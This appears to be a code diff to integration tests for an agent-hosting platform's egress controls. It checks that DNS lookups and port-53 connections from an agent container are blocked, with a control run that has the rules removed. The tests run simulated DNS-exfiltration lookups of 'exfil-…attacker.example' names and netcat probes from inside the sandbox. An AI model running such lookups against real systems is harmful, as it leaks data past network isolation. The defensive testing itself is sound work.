@@ -28,8 +28,18 @@ import httpx
 import pytest
 
 from clawhq.credentials import hash_token
+from clawhq.network.host import read_host_facts
 from tests.integration.helpers import exec_in, sdk
-from tests.integration.outside import INTERNET, NS_SIDE, HostListener, Outside, sh, tear_down
+from tests.integration.outside import (
+    DNS_ANSWER,
+    INTERNET,
+    NS_SIDE,
+    DnsStandIn,
+    HostListener,
+    Outside,
+    sh,
+    tear_down,
+)
 from tests.integration.served import Served, cli, serve_env
 from tests.integration.test_isolation import BB, fetch
 
@@ -51,6 +61,23 @@ class World:
     agent: dict[str, Any]
     headers: dict[str, str]
     admin: dict[str, str]
+    resolvers: tuple[str, ...] = ()  # the host's, routed to the namespace's DNS stand-in
+
+    @property
+    def dns_outside(self) -> DnsStandIn:
+        assert self.outside.dns is not None
+        return self.outside.dns
+
+    def lookup(self, name: str, server: str | None = None) -> tuple[int, str]:
+        """``nslookup`` from inside the agent: by its resolver, or asking ``server``."""
+        return exec_in(
+            self.agent["containerId"],
+            BB, "timeout", "5", BB, "nslookup", name, *([server] if server else []),
+        )  # fmt: skip
+
+    def tcp_53(self, server: str) -> None:
+        """A TCP connection to port 53 of ``server`` from inside the agent (it sends nothing)."""
+        exec_in(self.agent["containerId"], BB, "timeout", "3", BB, "nc", server, "53")
 
     def through_proxy(self, url: str, token: str = TOKEN) -> tuple[int, str]:
         proxy = f"http://agent:{token}@{self.gateway}:{self.proxy_port}"
@@ -132,10 +159,11 @@ def world(
     )
     gateway = docker_runtime.ensure_network(EGRESS_NETWORK)
     bridge = docker_runtime.network_facts(EGRESS_NETWORK).bridge
+    resolvers = tuple(str(a) for a in read_host_facts().dns_servers if not a.is_loopback)
     stack: list[Any] = []
     user_id = None
     try:
-        outside = Outside(bridge, tmp).open()
+        outside = Outside(bridge, tmp, dns=True, also=resolvers).open()
         stack.append(outside)
         server = Served(env, tmp / "serve.log").start()
         stack.append(server)
@@ -143,7 +171,15 @@ def world(
         headers = _token(env, "egress@example.com", "--plan", "pro")
         user_id = httpx.get(f"{server.base}/api/auth/me", headers=headers).json()["id"]
         world = World(
-            env, server, outside, gateway, int(env["CLAWHQ_EGRESS_PROXY_PORT"]), {}, headers, admin
+            env,
+            server,
+            outside,
+            gateway,
+            int(env["CLAWHQ_EGRESS_PROXY_PORT"]),
+            {},
+            headers,
+            admin,
+            resolvers,
         )
         world.set_policy("allowlist")
         world.agent = _deploy(server.base, headers)
@@ -205,6 +241,62 @@ def test_direct_connections_go_nowhere(world: World) -> None:
         assert listener.hits == 0
     finally:
         listener.close()
+
+
+@pytest.fixture(scope="module")
+def gateway_dns(world: World, tmp_path_factory: pytest.TempPathFactory) -> Iterator[DnsStandIn]:
+    """A resolver's stand-in on port 53 of the egress gateway (the host's side of the agent
+    bridge): where ClawHQ points the agent's embedded resolver."""
+    log = tmp_path_factory.mktemp("gateway-dns") / "dns.log"
+    stand_in = DnsStandIn((world.gateway,), log).start()
+    yield stand_in
+    stand_in.close()
+
+
+def _resolver_points_at_the_gateway(world: World) -> None:
+    """Checked before any lookup: a container still on the engine's resolvers would send the
+    control's lookups to the host's (to their stand-in here, but not by ClawHQ's doing)."""
+    info = sdk().api.inspect_container(world.agent["containerId"])
+    assert info["HostConfig"]["Dns"] == [world.gateway], info["HostConfig"]["Dns"]
+    code, resolv = exec_in(world.agent["containerId"], BB, "cat", "/etc/resolv.conf")
+    assert code == 0 and "nameserver 127.0.0.11" in resolv, resolv  # Docker's embedded one
+
+
+def test_lookups_from_the_agent_reach_no_resolver(world: World, gateway_dns: DnsStandIn) -> None:
+    _resolver_points_at_the_gateway(world)
+    name = f"exfil-{world.agent['id'][:8]}.attacker.example"
+    for server in (None, world.gateway, INTERNET, NS_SIDE, *world.resolvers):
+        code, out = world.lookup(name, server)
+        assert code != 0 and DNS_ANSWER not in out, f"{server or 'its resolver'}: {out}"
+    for server in (world.gateway, INTERNET, *world.resolvers):
+        world.tcp_53(server)
+    assert gateway_dns.queries() == []
+    assert world.dns_outside.queries() == []
+
+
+def test_without_the_rules_lookups_reach_the_stand_ins(
+    world: World, gateway_dns: DnsStandIn
+) -> None:
+    """The control: the lookups above go where the test looks for them, and only the rules
+    stop them. The agent's resolver asks the gateway (nothing else: not the host's
+    resolvers), and a lookup sent straight to a resolver outside gets there."""
+    _resolver_points_at_the_gateway(world)
+    name = f"control-{world.agent['id'][:8]}.attacker.example"
+    assert cli(world.env, "network", "teardown").returncode == 0
+    try:
+        code, out = world.lookup(name)
+        assert code == 0 and DNS_ANSWER in out, out
+        direct = world.lookup(name, INTERNET)
+        world.tcp_53(INTERNET)
+    finally:
+        assert cli(world.env, "network", "setup").returncode == 0
+    asked = {line.split()[2] for line in gateway_dns.queries(world.gateway)}
+    assert asked == {name}, gateway_dns.queries()
+    assert direct[0] == 0 and DNS_ANSWER in direct[1], direct
+    seen = world.dns_outside.queries()
+    assert {line.split()[0] for line in seen} == {INTERNET}, seen  # never the host's resolvers
+    assert any(line.split()[1] == "tcp-accept" for line in seen), seen
+    assert world.lookup(name, INTERNET)[0] != 0  # and the rules are back
 
 
 def test_without_the_rules_the_direct_probe_gets_through(world: World) -> None:
